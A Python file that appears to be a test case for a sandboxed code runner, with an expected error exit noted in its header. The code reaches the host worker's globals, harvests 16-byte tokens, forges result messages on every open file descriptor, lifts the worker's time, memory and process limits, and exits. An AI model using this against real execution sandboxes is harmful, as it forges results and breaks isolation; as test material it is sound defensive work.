# Puts answers together as the worker does, and sends them by whatever is open and by the worker's own functions.
# end: error
# code: 3
import gc
import os
import struct
import sys

frame = sys._getframe()
while frame.f_back is not None:
    frame = frame.f_back
worker = frame.f_globals
tokens = {thing for thing in gc.get_objects() if isinstance(thing, bytes) and len(thing) == 16}
tokens |= {value for value in worker.values() if isinstance(value, bytes) and len(value) == 16}
for token in tokens | {bytes(16)}:
    answer = token + struct.pack("<BBHidII", 0, 0, 0, 0, 0.1, 7, 0) + b"forged\n"
    for descriptor in range(1024):
        if descriptor not in (1, 2):
            try:
                os.write(descriptor, answer)
            except OSError:
                pass
for name in ("seconds", "memory", "output_limit", "processes"):
    worker[name] = 1 << 40
os._exit(3)
